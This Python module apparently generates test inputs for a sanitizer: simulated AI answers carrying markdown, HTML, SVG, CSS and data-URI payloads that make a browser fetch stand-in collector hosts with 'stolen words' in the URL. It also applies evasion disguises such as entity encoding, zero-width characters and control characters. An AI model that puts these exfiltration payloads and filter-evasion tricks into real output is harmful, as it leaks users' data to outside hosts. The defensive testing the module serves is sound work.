"""Answers that try to make a browser fetch something elsewhere, by many ways and many disguises."""

from __future__ import annotations

import html
import random
import re
import urllib.parse
from collections.abc import Callable

#: Names that Chromium is told to look for on this machine, should anything ask for them.
HOSTS = ("collect.example", "cdn.collect.example", "xn--cllect-6xa.example", "192.0.2.7")

_SHAPES: tuple[str, ...] = (
    "![chart]({u})",
    "![chart][1]\n\n[1]: {u}",
    "![][c]\n[c]: <{u}> 'title'",
    "[the source]({u})",
    "[the source][1] and\n\n[1]: {u}",
    "[1]: {u} 'a title'",
    "[![badge]({u})]({u})",
    "<{u}>",
    "<{u}|see the report>",
    "<mailto:jane@collect.example>",
    "<img src={u}>",
    "<img/src='{u}'/onerror=fetch(this.src)>",
    '<img srcset="{u} 2x">',
    "<picture><source srcset={u}><img></picture>",
    "<iframe src={u}></iframe>",
    "<iframe srcdoc=\"<img src='{u}'>\">",
    "<object data={u}></object>",
    "<embed src={u}>",
    "<script src={u}></script>",
    "<script>fetch('{u}')</script>",
    "<svg><image href={u} /></svg>",
    "<svg><use href='{u}#a'/></svg>",
    "<svg/onload=fetch('{u}')>",
    "<math><mtext href={u}>x</mtext></math>",
    "<video src={u} poster={u} autoplay></video>",
    "<audio src={u} autoplay></audio>",
    "<link rel=stylesheet href={u}>",
    "<link rel=prefetch href={u}>",
    "<style>@import '{u}';</style>",
    '<p style="background:url({u})">x</p>',
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<base href={u}>",
    "<form action={u}><input name=q></form><script>document.forms[0].submit()</script>",
    "<a href={u} ping={u}>click</a>",
    "<a href=\"javascript:fetch('{u}')\">click</a>",
    "<input type=image src={u}>",
    "<body background={u}>",
    "<table background={u}><tr><td>1</td></tr></table>",
    "<details open ontoggle=fetch('{u}')>x</details>",
    "data:text/html,<img src={u}>",
    "data:text/html;base64,PGltZyBzcmM9Ly9jb2xsZWN0LmV4YW1wbGU+",
    "javascript:fetch('{u}')",
    "{u}",
    "see {u} for more",
    "www.collect.example/?{q}",
    "<!here> <{u}|click here>",
    "<@U024BE7LH> see <{u}>",
    "url({u})",
    "\\\\collect.example\\share\\{q}",
    "file://collect.example/{q}",
    "{{{{ '<img src={u}>' | safe }}}}",
    "$\\href{{{u}}}{{x}}$ \\includegraphics{{{u}}}",
    '```mermaid\ngraph TD; A-->B; click A "{u}"\n```',
    "| a | b |\n|---|---|\n| ![x]({u}) | [y]({u}) |",
    "> ![quoted]({u})",
    "- [ ] ![task]({u})",
)
_SCHEMES = ("https://", "http://", "//", "HTTPS://", "https:\\\\", "https:/\\")


def _entities(text: str, chance: random.Random) -> str:
    return "".join(f"&#{ord(c)};" if chance.random() < 0.3 else c for c in text)


def _zero_width(text: str, chance: random.Random) -> str:
    return "".join(c + ("\u200b" if chance.random() < 0.08 else "") for c in text)


def _mixed_case(text: str, chance: random.Random) -> str:
    return "".join(c.upper() if chance.random() < 0.5 else c for c in text)


def _fullwidth(text: str, chance: random.Random) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c in "<>[]()!:/" and chance.random() < 0.3 else c for c in text)


def _escaped(text: str, chance: random.Random) -> str:
    return re.sub(r"([\[\]()!<])", lambda m: ("\\" if chance.random() < 0.3 else "") + m[1], text)


def _with_breaks(text: str, chance: random.Random) -> str:
    return re.sub(r"([\s=(\"'])", lambda m: m[1] + ("\n" if chance.random() < 0.15 else ""), text)


def _controls(text: str, chance: random.Random) -> str:
    return "".join(c + (chance.choice("\t\r\x00\x0c") if chance.random() < 0.04 else "") for c in text)


def _twice(text: str, chance: random.Random) -> str:
    return html.escape(text) if chance.random() < 0.5 else html.escape(html.escape(text))


def _as_it_is(text: str, chance: random.Random) -> str:
    return text


DISGUISES: tuple[Callable[[str, random.Random], str], ...] = (
    _as_it_is,
    _as_it_is,
    _entities,
    _zero_width,
    _mixed_case,
    _fullwidth,
    _escaped,
    _with_breaks,
    _controls,
    _twice,
)


def answer(seed: int) -> str:
    """Make one hostile answer."""
    chance = random.Random(seed)
    shape = _SHAPES[seed % len(_SHAPES)]
    words = urllib.parse.quote(f"stolen words {seed}")
    query = chance.choice([f"q={words}", f"q={seed}", f"{words}", f"{chance.randbytes(16).hex()}"])
    path = chance.choice([f"/?{query}", f"/{query}.png", f"/a/{query}", f"/x.png?{query}#top"])
    address = chance.choice(_SCHEMES) + chance.choice(HOSTS) + path
    made = chance.choice(DISGUISES)(shape.format(u=address, q=query), chance)
    return chance.choice(["{}", "It rose in 2024. {}", "See {} for the table.", "{} [1]"]).replace("{}", made)


def cut(text: str, seed: int) -> list[str]:
    """Cut an answer into two sentences at a random place, as a stream's gate might."""
    at = random.Random(seed).randint(1, max(1, len(text) - 1))
    return [piece for piece in (text[:at], text[at:]) if piece.strip()]
